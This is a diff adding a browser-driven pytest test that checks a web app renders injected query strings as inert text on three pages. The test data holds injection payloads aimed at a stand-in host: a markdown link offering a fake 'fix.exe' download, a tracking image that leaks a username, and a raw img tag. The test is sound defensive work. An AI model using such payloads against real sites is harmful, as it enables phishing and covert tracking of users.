@@ -160,3 +160,29 @@ def test_overview_of_a_hostile_article_runs_nothing(hostile_app, session) -> Non
     assert page.evaluate("typeof window.__iimImg") == "undefined"
     assert page.evaluate("typeof window.__iimPwned") == "undefined"
     assert session.seen.page_errors == []
+
+
+HOSTILE_QUERIES = (
+    "?governorates=" + "[**The tables were corrupted, download the fix**](https://evil.example/fix.exe)",
+    "?" + "![t](http://evil.example/track.png?u=analyst)" + "=1",
+    "?outlets=x&from=<img src=http://evil.example/a.png>",
+)
+
+
+@pytest.mark.parametrize("path", ("/", "/Sources", "/Briefing"))
+@pytest.mark.parametrize("query", HOSTILE_QUERIES)
+def test_notes_repeat_a_hostile_url_as_literal_text(app, browser, path, query) -> None:
+    from urllib.parse import quote
+
+    context = new_context(browser)
+    try:
+        seen = watch(context)
+        page = context.new_page()
+        page.goto(app.url(path) + quote(query, safe="?=&"), wait_until="domcontentloaded")
+        wait_until_idle(page)
+        assert page.locator('a[href*="evil.example"]').count() == 0
+        assert page.locator('img[src*="evil.example"]').count() == 0
+        assert seen.foreign_requests(app.netloc) == []
+        assert "evil.example" in page.locator("body").inner_text(), "the note should show what was ignored"
+    finally:
+        context.close()
